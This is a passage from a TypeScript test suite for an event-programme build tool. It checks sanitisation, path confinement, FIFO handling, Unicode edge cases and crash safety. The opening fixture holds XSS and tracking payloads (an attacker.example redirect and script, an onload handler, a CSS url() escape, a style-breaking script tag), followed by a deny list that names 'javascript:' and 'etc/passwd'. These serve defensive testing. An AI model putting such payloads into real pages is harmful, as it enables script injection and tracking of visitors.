      '<!DOCTYPE html>\n<html lang="{{lang}}"><head><meta charset="utf-8"><meta http-equiv="refresh" content="0;url=https://attacker.example"><link rel="stylesheet" href="https://tracker.example/x.css"><script src="https://attacker.example/x.js"></script><title>{{title}}</title><style>{{{css}}}</style></head><body onload="alert(1)">{{{body}}}</body></html>\n',
    'tpl/style.css':
      'h1 { color: red; }\n@import url("https://tracker.example/i.css");\nbody { background: url(https://tracker.example/b.png); }\np { background: u\\72 l(https://tracker.example/e.png); }\n</style><script>alert(1)</script>\n',
  };

  it('no script, event handler, unsafe or relative link, remote image or remote stylesheet reaches the HTML', async () => {
    const b = bundle(files);
    const r = await run(['build', 'event.yaml', '-o', 'out', '--only', 'programme.html,programme.pdf'], b.project);
    expect(r.code, r.stderr).toBe(0);
    const html = readFileSync(path.join(b.project, 'out', 'programme.html'), 'utf8');
    for (const bad of [
      '<script',
      'onclick',
      'onload',
      'javascript:',
      'file:',
      'smb:',
      'etc/passwd',
      'attacker.example',
      'tracker.example',
      '<iframe',
      '<object',
      '<form',
      'http-equiv',
      '<link',
      'data:image',
      'url(',
    ]) {
      expect(html, bad).not.toContain(bad);
    }
    expect(html).toContain('<a href="https://example.org/ok">ok</a>');
    expect(html).toContain('<a href="mailto:a@example.org">mail</a>');
    expect(html).toContain('<a href="https://example.org/md">ok</a>');
    expect(html).toContain('color: red'); // the user's style sheet, the rest neutralised
    expect(html).toContain('<h1>Séminaire</h1>');
  });

  it('the PDF carries links to http(s) and mailto only', async () => {
    const b = bundle(files);
    const r = await run(['build', 'event.yaml', '-o', 'out', '--only', 'programme.pdf'], b.project);
    expect(r.code, r.stderr).toBe(0);
    const links = await pdfLinks(readFileSync(path.join(b.project, 'out', 'programme.pdf')));
    expect(links.sort()).toEqual(['https://example.org/md', 'https://example.org/ok', 'mailto:a@example.org']);
  });

  it('nine nested {{#each @root.days}} stop at the loop budget, in seconds, at the loop', async () => {
    const days = Array.from({ length: 10 }, (_, i) => `  - date: 2016-05-${String(10 + i).padStart(2, '0')}\n    sessions: []\n`).join('');
    const nested = `${'{{#each @root.days}}'.repeat(9)}x${'{{/each}}'.repeat(9)}`;
    const b = bundle({
      'event.yaml': `templates: tpl\nevent: { title: Séminaire }\ndays:\n${days}`,
      'tpl/programme/programme.hbs': `<h1>{{event.title}}</h1>\n${nested}\n`,
    });
    const t0 = performance.now();
    const checked = await checkJson('event.yaml', b.project);
    expect(performance.now() - t0).toBeLessThan(loadAwareSeconds(10) * 1000);
    const e = errorsOf(checked.diagnostics);
    expect(e.map((d) => [d.rule, d.file, d.line])).toEqual([['template/invalid', 'tpl/programme/programme.hbs', 2]]);
    expect(e[0].message).toContain('too many times');
    const built = await run(['build', 'event.yaml', '-o', 'out'], b.project);
    expect(built.code).toBe(1);
  });

  it('a partial that includes itself, HTML nested 10,000 deep, and unclosed formatting tags are template errors, not crashes', async () => {
    const cases: Record<string, string> = {
      'partials/item.hbs': '{{> item}}',
      'programme/programme.hbs': '<div>'.repeat(10_000),
      'layout.hbs':
        '<html><body>{{{body}}}' + Array.from({ length: 3000 }, (_, i) => `<b class="c${i}">`).join('') + '<p>x</p>'.repeat(3000) + '</body></html>',
    };
    for (const [file, text] of Object.entries(cases)) {
      const b = bundle({ 'event.yaml': `templates: tpl\n${EVENT}`, [`tpl/${file}`]: text });
      const t0 = performance.now();
      const checked = await checkJson('event.yaml', b.project);
      expect(performance.now() - t0, file).toBeLessThan(loadAwareSeconds(10) * 1000);
      expect(
        errorsOf(checked.diagnostics).map((d) => [d.rule, d.file]),
        file,
      ).toEqual([['template/invalid', `tpl/${file}`]]);
    }
  });

  it('a layout that puts {{{body}}} in an attribute or {{{css}}} outside a <style> is refused', async () => {
    for (const layout of [
      '<html><body><div title="{{{body}}}"></div></body></html>',
      '<html><head><title>{{{css}}}</title></head><body>{{{body}}}</body></html>',
      '<html><body></body></html>',
    ]) {
      const b = bundle({ 'event.yaml': `templates: tpl\n${EVENT}`, 'tpl/layout.hbs': layout });
      const checked = await checkJson('event.yaml', b.project);
      expect(
        errorsOf(checked.diagnostics).map((d) => [d.rule, d.file]),
        layout,
      ).toEqual([['template/invalid', 'tpl/layout.hbs']]);
    }
  });
});

// ---------------------------------------------------------------------------------------
// 18. The smaller items

describe('18. the smaller items', () => {
  it('--only with no name is a usage error that says so', async () => {
    const b = bundle({ 'event.yaml': EVENT });
    const r = await run(['build', 'event.yaml', '--only', ''], b.project);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('--only : aucune sortie nommée');
    expect(r.stderr).not.toContain('fix the errors above');
    const en = await run(['build', 'event.yaml', '--only', '', '--lang', 'en'], b.project);
    expect(en.code).toBe(2);
    expect(en.stderr).toContain('--only: no output named');
  });

  it('names made only of NUL, a zero-width space or a space are refused, in YAML and in a CSV', async () => {
    const b = bundle({
      'event.yaml': `event: { title: Séminaire }\npeople:\n  a: { name: "\\0" }\n  b: { name: "\\u200B" }\n  c: { name: " " }\n${DAYS}`,
      'csv.yaml': `event: { title: Séminaire }\nattendees:\n  - file: liste.csv\n${DAYS}`,
      'liste.csv': 'Nom\nDUPONT\n\u200b\u200b\n\u3164\u2060\n',
    });
    const checked = await checkJson('event.yaml', b.project);
    const e = errorsOf(checked.diagnostics).map((d) => [d.rule, d.file, d.line, d.column]);
    expect(e).toEqual([
      ['schema/invalid', 'event.yaml', 3, 14],
      ['schema/invalid', 'event.yaml', 4, 14],
      ['schema/invalid', 'event.yaml', 5, 14],
    ]);
    const csv = await checkJson('csv.yaml', b.project);
    expect(errorsOf(csv.diagnostics).map((d) => [d.rule, d.file, d.line])).toEqual([
      ['schema/invalid', 'liste.csv', 3],
      ['schema/invalid', 'liste.csv', 4],
    ]);
  });

  it('a right-to-left override in a name is flagged (syntax/bidi-control), at the name', async () => {
    const b = bundle({
      'event.yaml': `event: { title: Séminaire }\npeople:\n  a: { name: "Jean \\u202ETNOPUD" }\n${DAYS}`,
      'liste.csv': 'Nom\nAnne \u202eNITRAM\n',
    });
    const checked = await checkJson('event.yaml', b.project);
    expect(checked.diagnostics.filter((d) => d.rule === 'syntax/bidi-control').map((d) => [d.severity, d.line, d.column])).toEqual([['warning', 3, 14]]);
    writeFileSync(path.join(b.project, 'event.yaml'), `event: { title: Séminaire }\nattendees: [{ file: liste.csv }]\n${DAYS}`);
    const csv = await checkJson('event.yaml', b.project);
    expect(csv.diagnostics.filter((d) => d.rule === 'syntax/bidi-control').map((d) => [d.file, d.line])).toEqual([['liste.csv', 2]]);
  });

  it('a misspelled helper argument is a template error at its place, never "UNDEFINED"', async () => {
    const b = bundle({ 'event.yaml': `templates: tpl\n${EVENT}`, 'tpl/partials/item.hbs': '<div class="item">\n<p>{{upper titel}}</p>\n</div>\n' });
    const checked = await checkJson('event.yaml', b.project);
    const e = errorsOf(checked.diagnostics);
    expect(e.map((d) => [d.rule, d.file, d.line, d.column])).toEqual([['template/invalid', 'tpl/partials/item.hbs', 2, 4]]);
    expect(e[0].message).toContain('upper');
  });

  it('{{log}} writes nothing to the terminal: it is refused', async () => {
    const b = bundle({
      'event.yaml': `templates: tpl\n${EVENT}`,
      'tpl/partials/item.hbs': '{{log "hello from the template"}}<div class="item">{{title}}</div>\n',
    });
    const spies = (['log', 'info', 'debug', 'warn', 'error'] as const).map((k) => vi.spyOn(console, k).mockImplementation(() => {}));
    try {
      const r = await run(['build', 'event.yaml', '-o', 'out'], b.project);
      expect(r.code).toBe(1);
      expect(r.stderr).toContain('"log" helper is not available');
      for (const s of spies) expect(s).not.toHaveBeenCalled();
    } finally {
      for (const s of spies) s.mockRestore();
    }
  });
});

// ---------------------------------------------------------------------------------------
// 14 and 15. Well-formed JSON, years

/** A `\ud800`-style escape not paired with its other half: what jq refuses. */
const LONE_ESCAPE = /\\ud[89ab][0-9a-f]{2}(?!\\ud[c-f][0-9a-f]{2})|(?<!\\ud[89ab][0-9a-f]{2})\\ud[c-f][0-9a-f]{2}/i;

describe('14. JSON that any parser reads', () => {
  it('a message cut in the middle of an emoji is cut before it', async () => {
    const b = bundle({ 'cr.md': `---\ntitle: CR\ndate: 2016-05-19\n---\n\n- [ ] ${'x'.repeat(58)}😀😀 fin\n` });
    const r = await run(['check', '--format', 'json', 'cr.md'], b.project);
    expect(r.stdout).toContain('minutes/action-owner');
    expect(r.stdout).not.toMatch(LONE_ESCAPE);
    expect(JSON.parse(r.stdout).diagnostics[0].message).toContain(`${'x'.repeat(58)}😀…`);
    const sarif = await run(['check', '--format', 'sarif', 'cr.md'], b.project);
    expect(sarif.stdout).not.toMatch(LONE_ESCAPE);
  });

  it('"\\uD800" in a title is replaced on input, with a warning at the title, and never reaches schedule.json', async () => {
    const b = bundle({ 'event.yaml': `event: { title: "Séminaire \\uD800" }\n${DAYS}` });
    const checked = await checkJson('event.yaml', b.project);
    expect(checked.diagnostics.filter((d) => d.rule === 'syntax/control-character').map((d) => [d.severity, d.line, d.column])).toEqual([['warning', 1, 17]]);
    const r = await run(['build', 'event.yaml', '-o', 'out', '--only', 'schedule.json,event.ics'], b.project);
    expect(r.code, r.stderr).toBe(0);
    const json = readFileSync(path.join(b.project, 'out', 'schedule.json'), 'utf8');
    expect(json).not.toMatch(LONE_ESCAPE);
    expect(json).toContain('Séminaire \uFFFD');
  });
});

describe('15. years far from the present', () => {
  it('0026-03-12: a warning at the date, and the exports say year 26, not 1926', async () => {
    const b = bundle({
      'event.yaml': `event: { title: Séminaire }\ndays:\n  - date: 0026-03-12\n    sessions:\n      - { title: Matin, start: "9h", end: "12h" }\n`,
    });
    const checked = await checkJson('event.yaml', b.project);
    expect(checked.diagnostics.map((d) => [d.rule, d.severity, d.line, d.column])).toContainEqual(['schedule/unlikely-year', 'warning', 3, 11]);
    const r = await run(['build', 'event.yaml', '-o', 'out', '--only', 'event.ics,schedule.json'], b.project);
    expect(r.code, r.stderr).toBe(0);
    const ics = readFileSync(path.join(b.project, 'out', 'event.ics'), 'utf8');
    expect(ics).toMatch(/DTSTART;TZID=Europe\/Paris:00260312T090000|DTSTART:00260312T/);
    expect(ics).not.toContain('1926');
    const json = readFileSync(path.join(b.project, 'out', 'schedule.json'), 'utf8');
    expect(json).toContain('0026-03-12');
    expect(json).not.toContain('1926');
  });

  it('minutes dated 0016: the warning points at `date:` in the front matter', async () => {
    const b = bundle({ 'cr.md': '---\ntitle: CR\ndate: 0016-05-19\n---\n\nTexte.\n' });
    const checked = await checkJson('cr.md', b.project);
    expect(checked.diagnostics.map((d) => [d.rule, d.line, d.column])).toEqual([['schedule/unlikely-year', 3, 7]]);
  });
});

// ---------------------------------------------------------------------------------------
// 12. --watch after atomic saves

async function until(check: () => boolean, ms = 20_000): Promise<void> {
  const end = Date.now() + ms;
  while (!check()) {
    if (Date.now() > end) throw new Error('timed out');
    await new Promise((r) => setTimeout(r, 50));
  }
}

describe('12. --watch keeps hearing after an atomic save, and says so when an input goes away', () => {
  it('an atomic replace (write a copy, rename it over), then an in-place edit, then a deletion', async () => {
    const b = bundle({ 'event.yaml': EVENT });
    const stdout = new Capture();
    const stderr = new Capture();
    const controller = new AbortController();
    const done = main({
      argv: ['build', '--watch', 'event.yaml', '-o', 'out', '--only', 'programme.html', '--lang', 'en'],
      stdout,
      stderr,
      cwd: b.project,
      env: {},
      signal: controller.signal,
    });
    try {
      await until(() => stdout.text.includes('watching for changes'));
      const file = path.join(b.project, 'event.yaml');
      const html = () => readFileSync(path.join(b.project, 'out', 'programme.html'), 'utf8');
      // sed -i / an editor's safe write
      writeFileSync(`${file}.tmp`, EVENT.replace('Séminaire', 'Séminaire atomique'));
      renameSync(`${file}.tmp`, file);
      await until(() => html().includes('Séminaire atomique'));
      // then an ordinary in-place edit, which Node's recursive watch no longer heard
      writeFileSync(file, EVENT.replace('Séminaire', 'Séminaire modifié sur place'));
      await until(() => html().includes('Séminaire modifié sur place'));
      // deleting the input: a clear line, not an unpositioned ENOENT
      rmSync(file);
      await until(() => stderr.text.includes('was removed or renamed'));
      expect(stderr.text).not.toContain('ENOENT');
      expect(stderr.text).toContain('event.yaml was removed or renamed: waiting for it to come back');
      writeFileSync(file, EVENT.replace('Séminaire', 'Séminaire revenu'));
      await until(() => html().includes('Séminaire revenu'));
    } finally {
      controller.abort();
      await done;
    }
  }, 60_000);
});

// ---------------------------------------------------------------------------------------
// 17. A build killed while writing (the bundle, in a child process)

const bundled = existsSync(path.join(repo, 'dist', 'cli-bundle', 'main.js'));

describe.skipIf(!bundled)('17. kill -9 while writing: each output old or new, whole; the next build cleans up', () => {
  it('a build killed at its first temporary file', async () => {
    const { spawn } = await import('node:child_process');
    const { watch } = await import('node:fs');
    const b = bundle({});
    cpSync(path.join(repo, 'examples', 'universites-automne'), b.project, { recursive: true });
    // HTML and exports only: quick to render; the write stage is the same for every output.
    const args = (out: string) => ['build', 'event.yaml', '-o', out, '-q', '--only', '*.html,event.ics,schedule.json,schedule.xml'];
    const file = path.join(b.project, 'event.yaml');
    const before = readFileSync(file, 'utf8');
    expect((await run(args('out'), b.project)).code).toBe(0);
    const old = new Map(readdirSync(path.join(b.project, 'out')).map((f) => [f, readFileSync(path.join(b.project, 'out', f))]));
    writeFileSync(file, before.replace(/title: "?([^"\n]+)"?/, 'title: "Universités d’automne, nouvelle version"'));
    expect((await run(args('reference'), b.project)).code).toBe(0);
    const fresh = new Map(readdirSync(path.join(b.project, 'reference')).map((f) => [f, readFileSync(path.join(b.project, 'reference', f))]));
    // The installed command, in its own process, killed when its first temporary file appears.
    const child = spawn(process.execPath, [path.join(repo, 'bin', 'coop.js'), ...args('out')], { cwd: b.project, stdio: 'ignore' });
    const watcher = watch(path.join(b.project, 'out'), (_e, name) => {
      if (name?.toString().startsWith('.coop-')) child.kill('SIGKILL');
    });
    await new Promise((resolve) => child.on('exit', resolve));
    watcher.close();
    for (const f of readdirSync(path.join(b.project, 'out'))) {
      if (f.startsWith('.coop-')) continue; // left by the killed build
      const bytes = readFileSync(path.join(b.project, 'out', f));
      expect(bytes.equals(old.get(f)!) || bytes.equals(fresh.get(f)!), `${f} is neither the old nor the new version`).toBe(true);
    }
    // The next build removes what the killed one left, and writes everything anew.
    expect((await run(args('out'), b.project)).code).toBe(0);
    expect(readdirSync(path.join(b.project, 'out')).sort()).toEqual([...fresh.keys()].sort());
    for (const [f, bytes] of fresh) expect(readFileSync(path.join(b.project, 'out', f)).equals(bytes), f).toBe(true);
  }, 60_000);
});

describe('7. the output folder', () => {
  it('an `out` shipped in the bundle as a link out of the project is refused (exit 2); -o outside the project is the user’s choice', async () => {
    const b = bundle({ 'event.yaml': EVENT });
    const elsewhere = path.join(b.outside, 'web');
    mkdirSync(elsewhere);
    writeFileSync(path.join(elsewhere, 'programme.html'), 'the other site');
    symlinkSync(elsewhere, path.join(b.project, 'out'));
    const r = await run(['build', 'event.yaml'], b.project);
    expectNoCrash(r);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('the output folder out leads outside the project folder');
    expect(readFileSync(path.join(elsewhere, 'programme.html'), 'utf8')).toBe('the other site');
    expect(readdirSync(elsewhere)).toEqual(['programme.html']);
    // given explicitly, a folder outside the project is fine
    const chosen = await run(['build', 'event.yaml', '-o', elsewhere, '--only', 'event.ics'], b.project);
    expect(chosen.code, chosen.stderr).toBe(0);
    expect(readdirSync(elsewhere).sort()).toEqual(['event.ics', 'programme.html']);
  });
});

// ---------------------------------------------------------------------------------------
// The same guarantees for what main added beside #13 (workbooks, coop diff, several events,
// minutes that belong to their event's project, coop init --ci)

describe('main’s new file paths are confined too', () => {
  it('an attendee workbook (.xlsx) linked out of the project is ref/outside-project at its file: entry, in check and build', async () => {
    const { makeXlsx } = await import('./workbooks.js');
    const b = bundle({ 'event.yaml': `event: { title: Séminaire }\nattendees:\n  - file: inscrits.xlsx\n${DAYS}` });
    writeFileSync(
      path.join(b.outside, 'inscrits.xlsx'),
      await makeXlsx([
        {
          name: 'Inscrits',
          rows: [
            ['Nom', 'Prénom'],
            [SECRET, 'Jean'],
          ],
        },
      ]),
    );
    symlinkSync(path.join(b.outside, 'inscrits.xlsx'), path.join(b.project, 'inscrits.xlsx'));
    const checked = await checkJson('event.yaml', b.project);
    expect(checked.code).toBe(1);
    expect(errorsOf(checked.diagnostics).map((d) => [d.rule, d.file, d.line, d.column])).toEqual([['ref/outside-project', 'event.yaml', 3, 11]]);
    expect(checked.stdout).not.toContain(SECRET);
    const built = await run(['build', 'event.yaml', '-o', 'out', '--draft'], b.project);
    expectNoCrash(built);
    expect(built.code).toBe(1);
    expect(built.stdout + built.stderr + everything(path.join(b.project, 'out'))).not.toContain(SECRET);
    // The same workbook copied into the project is read.
    rmSync(path.join(b.project, 'inscrits.xlsx'));
    cpSync(path.join(b.outside, 'inscrits.xlsx'), path.join(b.project, 'inscrits.xlsx'));
    expect((await checkJson('event.yaml', b.project)).code).toBe(0);
  });

  it('an attendee workbook that is a FIFO is refused without blocking', async () => {
    const b = bundle({ 'event.yaml': `event: { title: Séminaire }\nattendees:\n  - file: inscrits.ods\n${DAYS}` });
    execFileSync('mkfifo', [path.join(b.project, 'inscrits.ods')]);
    const t0 = Date.now();
    const checked = await checkJson('event.yaml', b.project);
    expect(Date.now() - t0).toBeLessThan(loadAwareSeconds(5) * 1000);
    expect(errorsOf(checked.diagnostics).map((d) => d.rule)).toEqual(['ref/unknown']);
  });

  it('coop diff of two files, one a link out of the project: ref/outside-project, exit 1, the secret nowhere', async () => {
    const b = bundle({ 'old.yaml': EVENT });
    writeFileSync(path.join(b.outside, 'event.yaml'), `event: { title: "${SECRET}" }\n${DAYS}`);
    symlinkSync(path.join(b.outside, 'event.yaml'), path.join(b.project, 'new.yaml'));
    for (const args of [
      ['diff', 'old.yaml', 'new.yaml'],
      ['diff', 'new.yaml', 'old.yaml', '--format', 'json'],
    ]) {
      const r = await run(args, b.project);
      expectNoCrash(r);
      expect(r.code).toBe(1);
      expect(r.stderr).toMatch(/new\.yaml:1:1 {2}error .*ref\/outside-project/);
      expect(r.stderr).toContain('cannot compare: new.yaml cannot be read');
      expect(r.stdout + r.stderr).not.toContain(SECRET);
    }
    // A link to a file of the project is fine.
    rmSync(path.join(b.project, 'new.yaml'));
    writeFileSync(path.join(b.project, 'v2.yaml'), EVENT.replace('Ouverture', 'Accueil'));
    symlinkSync(path.join(b.project, 'v2.yaml'), path.join(b.project, 'new.yaml'));
    const ok = await run(['diff', 'old.yaml', 'new.yaml'], b.project);
    expect(ok.code, ok.stderr).toBe(0);
    expect(ok.stdout).toContain('Accueil');
  });

  it('coop diff -o into an output folder that is a link out of the project is refused before writing', async () => {
    const b = bundle({ 'old.yaml': EVENT, 'new.yaml': EVENT.replace('Ouverture', 'Accueil') });
    symlinkSync(b.outside, path.join(b.project, 'out'));
    const r = await run(['diff', 'old.yaml', 'new.yaml', '-o', 'out', '--date', '2016-05-01'], b.project);
    expectNoCrash(r);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('leads outside the project folder');
    expect(readdirSync(b.outside)).toEqual(['secret.txt']);
  });

  it('several events: an event’s folder of the output folder that is a link out of the project is refused', async () => {
    const b = bundle({ 'lyon/event.yaml': EVENT, 'lille/event.yaml': EVENT });
    mkdirSync(path.join(b.project, 'out'));
    symlinkSync(b.outside, path.join(b.project, 'out', 'lyon'));
    const r = await run(['build', 'lyon/event.yaml', 'lille/event.yaml', '-o', 'out'], b.project);
    expectNoCrash(r);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('out/lyon leads outside the project folder');
    expect(readdirSync(b.outside)).toEqual(['secret.txt']);
    expect(readdirSync(path.join(b.project, 'out')).sort()).toEqual(['lyon']);
  });

  it('several events: minutes with one name in two events’ folders do not collide; in one folder they do (NAME.docx named too)', async () => {
    const minutes = '---\ntitle: Compte rendu\ndate: 2016-05-19\n---\n\nTexte.\n';
    const b = bundle({
      'lyon/event.yaml': `event: { title: Lyon }\nminutes: [cr.md]\n${DAYS}`,
      'lyon/cr.md': minutes,
      'lille/event.yaml': `event: { title: Lille }\nminutes: [cr.md, bureau/cr.md]\n${DAYS}`,
      'lille/cr.md': minutes,
      'lille/bureau/cr.md': minutes,
    });
    const both = await run(['check', '--format', 'json', 'lyon/event.yaml', 'lille/event.yaml'], b.project);
    const errors = errorsOf((JSON.parse(both.stdout) as { diagnostics: JsonDiagnostic[] }).diagnostics);
    expect(errors.map((d) => [d.rule, d.file, d.line])).toEqual([['output/collision', 'lille/event.yaml', 2]]);
    expect(errors[0].message).toContain('cr.docx');
    // Rename as the message says: each event's minutes go to its own folder.
    writeFileSync(path.join(b.project, 'lille/event.yaml'), `event: { title: Lille }\nminutes: [cr.md]\n${DAYS}`);
    const built = await run(['build', 'lyon/event.yaml', 'lille/event.yaml', '-o', 'out', '--only', 'cr.html'], b.project);
    expect(built.code, built.stderr).toBe(0);
    expect(existsSync(path.join(b.project, 'out', 'lyon', 'cr.html'))).toBe(true);
    expect(existsSync(path.join(b.project, 'out', 'lille', 'cr.html'))).toBe(true);
  });

  it('minutes whose event: is a link out of the project, and minutes that are such a link themselves', async () => {
    const b = bundle({ 'minutes/cr.md': '---\ntitle: Compte rendu\ndate: 2016-05-19\nevent: ../event.yaml\n---\n\nTexte.\n' });
    writeFileSync(path.join(b.outside, 'event.yaml'), `event: { title: "${SECRET}" }\n${DAYS}`);
    symlinkSync(path.join(b.outside, 'event.yaml'), path.join(b.project, 'event.yaml'));
    const linkedEvent = await checkJson('minutes/cr.md', b.project);
    expect(errorsOf(linkedEvent.diagnostics).map((d) => d.rule)).toEqual(['ref/outside-project']);
    expect(linkedEvent.stdout).not.toContain(SECRET);

    writeFileSync(path.join(b.outside, 'cr.md'), `---\ntitle: "${SECRET}"\ndate: 2016-05-19\n---\n\n${SECRET}\n`);
    symlinkSync(path.join(b.outside, 'cr.md'), path.join(b.project, 'lien.md'));
    const linkedMinutes = await checkJson('lien.md', b.project);
    expect(errorsOf(linkedMinutes.diagnostics).map((d) => [d.rule, d.file])).toEqual([['ref/outside-project', 'lien.md']]);
    const built = await run(['build', 'lien.md', '-o', 'out', '--draft'], b.project);
    expect(built.code).toBe(1);
    expect(built.stdout + built.stderr + everything(path.join(b.project, 'out'))).not.toContain(SECRET);
  });

  it('coop init --ci reads the project’s package.json as a project file: a FIFO does not block it', async () => {
    const b = bundle({ 'lyon/event.yaml': EVENT });
    execFileSync('mkfifo', [path.join(b.project, 'package.json')]);
    execFileSync('mkfifo', [path.join(b.project, 'lyon', 'autre.yaml')]);
    const t0 = Date.now();
    const r = await run(['init', '--ci', 'github'], b.project);
    expect(Date.now() - t0).toBeLessThan(loadAwareSeconds(5) * 1000);
    expectNoCrash(r);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain('lyon/event.yaml');
    expect(readFileSync(path.join(b.project, '.github', 'workflows', 'coop.yml'), 'utf8')).toContain('lyon/event.yaml');
  });
});

describe('main’s <sup>/<sub> in Markdown stay linear', () => {
  it('40,000 unclosed <sup> in a description (200 KB) render in well under the quadratic minute', async () => {
    const b = bundle({ 'event.yaml': `event:\n  title: Séminaire\n  description: "${'<sup>'.repeat(40_000)}x <sup>er</sup>"\n${DAYS}` });
    const t0 = performance.now();
    const r = await run(['build', 'event.yaml', '-o', 'out', '--only', 'programme.html'], b.project);
    expect(performance.now() - t0).toBeLessThan(loadAwareSeconds(5) * 1000); // a forward search from each one took 22 s
    expect(r.code, r.stderr).toBe(0);
    const html = readFileSync(path.join(b.project, 'out', 'programme.html'), 'utf8');
    // As before: the first <sup> takes the first </sup>, the unclosed ones inside are dropped.
    expect(html).toContain('<p><sup>x er</sup></p>');
    expect(html).not.toContain('&#x3C;sup>');
  });
});

describe('main’s minutes front matter: names and titles with nothing to see', () => {
  it('a title, a participant or an organisation present made of a zero-width space or a space is schema/invalid, at it', async () => {
    const b = bundle({
      'cr.md': '---\ntitle: "\\u200B"\ndate: 2016-05-19\npresent: ["\\u200B", { org: " " }]\n---\n\nTexte.\n',
    });
    const checked = await checkJson('cr.md', b.project);
    expect(checked.code).toBe(1);
    expect(errorsOf(checked.diagnostics).map((d) => [d.rule, d.line])).toEqual([
      ['schema/invalid', 2],
      ['schema/invalid', 4],
      ['schema/invalid', 4],
    ]);
    expect(errorsOf(checked.diagnostics)[0].message).toContain('aucun caractère visible');
  });
});
